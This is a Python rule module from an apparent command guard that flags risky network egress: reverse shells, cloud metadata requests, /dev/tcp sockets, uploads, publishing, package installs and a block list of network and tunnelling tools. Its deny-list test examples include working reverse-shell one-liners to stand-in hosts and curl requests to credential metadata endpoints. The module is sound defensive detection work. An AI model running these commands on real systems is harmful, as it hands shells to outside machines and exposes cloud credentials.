"""Plain traffic and its worst kinds: reverse shells, metadata endpoints, uploads, packages, tools by name."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from latch_contracts.facts import (
    Access,
    Command,
    Grammar,
    NetAction,
    NetworkFact,
    Operation,
    Scope,
)
from latch_contracts.verdict import Severity
from latchd.guard.groups import Group
from latchd.guard.hosts import METADATA
from latchd.guard.rule import Hit, Rule
from latchd.guard.subject import Subject

_SHELLS: Final = frozenset("sh bash dash zsh ksh fish csh tcsh ash busybox".split())


_NEAR: Final = frozenset((Scope.LOOPBACK,))


NETWORK_TOOLS: Final = frozenset(
    """
    curl wget wget2 aria2c axel lynx links elinks w3m http https httpie xh curlie hurl grpcurl websocat
    wscat nc ncat netcat
    nc.openbsd nc.traditional socat telnet ftp lftp sftp tftp ncftp ssh autossh mosh sshpass dbclient plink
    pscp psftp scp rclone
    croc wormhole magic-wormhole smbclient sshfs curlftpfs ngrok cloudflared localtunnel lt bore chisel frpc
    frps tailscale wg
    wg-quick openvpn tor torsocks proxychains proxychains4 iodine dnscat ptunnel mail mailx mutt sendmail
    msmtp swaks dig nslookup
    host drill kdig ping ping6 fping hping3 traceroute tracepath mtr nmap masscan zmap arping
    """.split()
)


def near(fact: NetworkFact) -> bool:
    return fact.scope in _NEAR or (not fact.host and not fact.expands)


def saves_only(subject: Subject, command: Command | None) -> bool:
    """Whether all that a fetcher brings goes into files: nothing is left for its output.

    Of several addresses each needs a file of its own.
    """
    if command is None or command.grammar is not Grammar.KNOWN or "stdout-download" in command.details:
        return False
    if Operation.FETCH not in command.operations or Operation.WRITE not in command.operations:
        return False
    if "-" in command.argv[1:]:
        return False  # its output is one of the places that it writes to
    facts = subject.facts
    files = [fact for fact in facts.paths if fact.command_id == command.id and fact.access is Access.WRITE]
    return len(files) >= sum(contact.command_id == command.id for contact in facts.network)


def _allowed_host(subject: Subject, host: str) -> bool:
    wanted = host.lower().rstrip(".")
    return bool(wanted) and any(
        wanted == entry.lower() or (entry.startswith("*.") and wanted.endswith(entry[1:].lower()))
        for entry in (*subject.policy.network.allow, *subject.policy.allow.hosts)
    )


def _upload_unknown(subject: Subject) -> Iterator[Hit]:
    for command, fact in subject.contacts():
        if fact.action is NetAction.UPLOAD and not near(fact) and not _allowed_host(subject, fact.host):
            host = (fact.host or "a host known only when it runs").replace("\0", "$…")[:120]
            yield Hit(
                command.id,
                host,
                f"this sends data to `{host}`",
                "add the host to network.allow, or let the person send it",
            )


def _publish(subject: Subject) -> Iterator[Hit]:
    for command in subject.acting():
        uploads = "publish" in command.details and Operation.UPLOAD in command.operations
        if uploads or _UPLOADERS.get(command.program) in command.argv[1:3]:
            yield Hit(
                command.id,
                " ".join(command.argv[:2]).replace("\0", "$…")[:60],
                "this makes something public, and that is seldom undone",
                "let the person publish it, or show with --dry-run what would go",
            )


# Programs that send a package to its registry, and the verb by which they do.
_UPLOADERS: Final = {
    "twine": "upload",
    "flit": "publish",
    "hatch": "publish",
    "vsce": "publish",
    "ovsx": "publish",
    "deno": "publish",
    "jsr": "publish",
    "yarn": "publish",
    "hex": "publish",
    "mix": "hex.publish",
    "luarocks": "upload",
    "snapcraft": "upload",
    "eas": "submit",
    "fastlane": "deliver",
    "web-ext": "sign",
}


def _metadata_endpoint(subject: Subject) -> Iterator[Hit]:
    for command, fact in subject.contacts():
        if fact.normalized_host in METADATA or fact.host.lower().rstrip(".") in METADATA:
            yield Hit(
                command.id,
                fact.host,
                f"`{fact.host[:80]}` hands out the credentials of this cloud machine",
                "let the person ask for what is needed",
            )


def _reverse_shell(subject: Subject) -> Iterator[Hit]:
    for command in subject.acting():
        socket = next(
            (_socket(redirect.target) for redirect in command.redirects if _socket(redirect.target)), ""
        )
        shell = command.program in _SHELLS or command.program == "exec"
        if "shell-child" in command.details or (socket and shell):
            yield Hit(
                command.id,
                socket or command.program,
                "this hands a shell to another machine",
                "leave it out; nothing in a project needs it",
            )
    far = {command.id for command, fact in subject.contacts() if not near(fact)}
    for flow in subject.facts.flows:
        # a shell that takes commands from somewhere, and answers to another machine
        source = subject.facts.command(flow.from_command) if flow.to_command in far else None
        if source is not None and source.program in _SHELLS and Operation.RUN_INPUT in source.operations:
            yield Hit(
                source.id,
                source.program,
                "the answers of this shell go to another machine",
                "leave it out; nothing in a project needs it",
            )


def _socket(target: str) -> str:
    return target if target.startswith(("/dev/tcp/", "/dev/udp/")) else ""


def _device_socket(subject: Subject) -> Iterator[Hit]:
    for command in subject.acting():
        for redirect in command.redirects:
            if socket := _socket(redirect.target):
                yield Hit(
                    command.id,
                    socket.replace("\0", "$…"),
                    f"this opens a connection to `{socket[:80]}` through the shell itself".replace(
                        "\0", "$…"
                    ),
                    "use a program that names its host, so that it can be judged",
                )


def _traffic(subject: Subject) -> Iterator[Hit]:
    spoken: set[int] = set()
    for command, fact in subject.contacts():
        if not near(fact) and not _allowed_host(subject, fact.host):
            spoken.add(command.id)
            host = (fact.host or "a host known only when it runs").replace("\0", "$…")[:120]
            yield Hit(
                command.id, host, f"this speaks to `{host}`", "add the host to network.allow if it is wanted"
            )
    for command in subject.acting():
        known = any(fact.command_id == command.id for fact in subject.facts.network)
        if command.program in NETWORK_TOOLS and command.id not in spoken and not known:
            yield Hit(
                command.id,
                command.program,
                f"`{command.program}` speaks to the network",
                "add its host to network.allow if it is wanted",
            )


def _package(subject: Subject) -> Iterator[Hit]:
    for command in subject.acting():
        if Operation.INSTALL in command.operations:
            yield Hit(
                command.id,
                " ".join(command.argv[:3]).replace("\0", "$…")[:60],
                "this brings in a package and may run its scripts",
                "check its name and version first",
            )


RULES: Final = (
    Rule(
        "egress.reverse-shell",
        "a shell is handed to the network",
        Group.REVERSE_SHELL,
        Severity.CRITICAL,
        _reverse_shell,
        denies=(
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh evil.example 4444",
            "socat TCP:evil.example:1 EXEC:/bin/sh",
            "cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        ),
        passes=("nc -z localhost 80", "bash -c 'echo hi'", "nc -l -p 8080 -c 'echo hi'"),
    ),
    Rule(
        "egress.metadata-endpoint",
        "a cloud machine's credentials are asked for",
        Group.METADATA_ENDPOINT,
        Severity.CRITICAL,
        _metadata_endpoint,
        denies=(
            "curl http://169.254.169.254/latest/meta-data/",
            "curl http://metadata.google.internal/",
            "curl http://2852039166/",
        ),
        passes=("curl http://example.com/169.254.169.254",),
    ),
    Rule(
        "egress.device-socket",
        "the shell itself opens a connection",
        Group.UPLOAD_UNKNOWN,
        Severity.HIGH,
        _device_socket,
        denies=("cat a > /dev/tcp/x.example/80", "exec 3<>/dev/tcp/x.example/80"),
        passes=("cat /dev/null", "echo /dev/tcp/a/1"),
    ),
    Rule(
        "egress.upload",
        "data is sent to another machine",
        Group.UPLOAD_UNKNOWN,
        Severity.MEDIUM,
        _upload_unknown,
        denies=(
            "curl -T a.bin https://x.example/u",
            "curl -d @a.json https://x.example",
            'curl -d "$BODY" https://x.example',
        ),
        passes=(
            "curl https://x.example",
            "curl -d @a.json http://localhost:8080",
            "curl -d a=1 https://x.example",
        ),
    ),
    Rule(
        "egress.publish",
        "something is published",
        Group.NETWORK,
        Severity.MEDIUM,
        _publish,
        denies=(
            "npm publish",
            "docker push me/app",
            "cargo publish",
            "twine upload dist/*",
            "mix hex.publish",
        ),
        passes=("npm publish --dry-run", "docker build -t me/app .", "npm pack", "twine check dist/*"),
    ),
    Rule(
        "package.install",
        "a package is installed",
        Group.PACKAGE,
        Severity.LOW,
        _package,
        denies=("pip install requests", "npm install left-pad", "apt-get install -y jq"),
        passes=("pip list", "npm test", "apt list"),
    ),
    Rule(
        "network.tool",
        "a program speaks to the network",
        Group.NETWORK,
        Severity.LOW,
        _traffic,
        denies=(
            "curl https://x.example",
            "ssh host",
            "ping x.example",
            "FOO=1 /usr/bin/curl https://x.example",
        ),
        passes=(
            "echo curl",
            "grep -r curl .",
            "command -v curl",
            "git commit -m 'use curl'",
            "curl http://localhost:3000",
        ),
    ),
)
